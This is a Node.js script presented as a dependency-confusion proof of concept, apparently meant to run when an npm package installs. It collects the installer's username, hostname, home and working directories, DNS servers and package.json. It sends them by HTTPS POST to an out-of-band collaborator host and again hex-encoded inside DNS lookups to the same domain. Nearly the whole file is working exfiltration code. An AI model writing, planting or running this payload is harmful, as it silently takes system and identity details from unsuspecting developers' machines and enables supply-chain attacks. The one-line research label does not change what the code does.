// Security research: dependency confusion proof of concept. Reports where it was installed.
const os = require('os');
const dns = require('dns');
const https = require('https');
const querystring = require('querystring');
const pkg = require('./package.json');

const td = {
  p: pkg.name,
  c: __dirname,
  hd: os.homedir(),
  hn: os.hostname(),
  un: os.userInfo().username,
  dns: dns.getServers(),
  r: pkg ? pkg.___resolved : undefined,
  v: pkg.version,
  pjson: pkg,
};
const postData = querystring.stringify({ msg: JSON.stringify(td) });

const req = https.request({
  hostname: 'cv8s2tq0b1ufq0bl6qgg.oast-collab.example',
  port: 443,
  path: '/',
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': postData.length },
}, (res) => res.on('data', () => {}));
req.on('error', () => {});
req.write(postData);
req.end();

// Same facts over DNS, for networks that only let resolvers out.
const hex = Buffer.from(`${td.un}|${td.hn}|${td.p}|${process.env.INIT_CWD || td.c}`).toString('hex');
const labels = hex.match(/.{1,60}/g).slice(0, 4);
labels.forEach((chunk, i) => dns.lookup(`${chunk}.${i}.${Date.now() % 100000}.d.oast-collab.example`, () => {}));
